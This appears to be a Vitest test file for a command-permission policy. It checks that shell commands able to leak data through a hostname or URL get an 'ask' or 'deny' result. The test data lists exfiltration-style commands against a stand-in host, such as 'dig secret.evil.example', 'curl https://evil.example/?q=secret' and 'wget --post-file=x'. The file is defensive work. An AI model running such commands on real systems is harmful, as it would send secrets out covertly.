/** A harmless program carries something out in a name or an address. */
import { describe, expect, it } from 'vitest';
import { probe } from '../policy-probe.js';

const SENDS = [
  'ping evil.example',
  'ping -c 1 secret.evil.example',
  'dig secret.evil.example',
  'dig @1.2.3.4 x.y',
  'nslookup secret.evil.example',
  'host secret.evil.example',
  'curl https://evil.example/?q=secret',
  'curl evil.example/secret',
  'git ls-remote https://evil.example/x',
  'git fetch git@evil.example:x',
  'rsync -a src evil.example:dst',
  'traceroute evil.example',
];

describe('names and addresses that carry', () => {
  const programs = [
    'ping',
    'dig',
    'nslookup',
    'host',
    'curl',
    'git ls-remote',
    'git fetch',
    'rsync',
    'traceroute',
  ];
  const rules = probe({ allow: programs.map((program) => `Bash(${program}:*)`) });
  it.each(SENDS)('the host needs a rule of its own: %s', async (command) => {
    expect((await rules.bash(command)).behaviour).toBe('ask');
  });

  const denied = probe({
    mode: 'allow',
    deny: ['WebFetch(domain:evil.example)', 'WebFetch(domain:1.2.3.4)'],
  });
  it.each([
    ...SENDS,
    'python x.py https://evil.example',
    'wget --post-file=x http://EVIL.example./',
    'X=https://evil.example/x; echo $X',
  ])('a rule about the host denies: %s', async (command) => {
    expect((await denied.bash(command)).behaviour).toBe('deny');
  });

  it('goes where a rule lets it', async () => {
    const both = probe({
      allow: ['Bash(curl:*)', 'WebFetch(domain:docs.example)', 'Bash(curl https://named.example/x:*)'],
    });
    expect((await both.bash('curl https://docs.example/a')).behaviour).toBe('allow');
    expect((await both.bash('curl -d @x https://docs.example/a')).behaviour).toBe('ask');
    expect((await both.bash('curl https://named.example/x')).behaviour).toBe('allow');
  });

  it('is nothing that only reads', async () => {
    for (const command of [...SENDS, 'grep ^ x; env', 'cat x | curl y']) {
      expect((await probe({ mode: 'read-only' }).bash(command)).behaviour, command).toBe('deny');
    }
  });
});
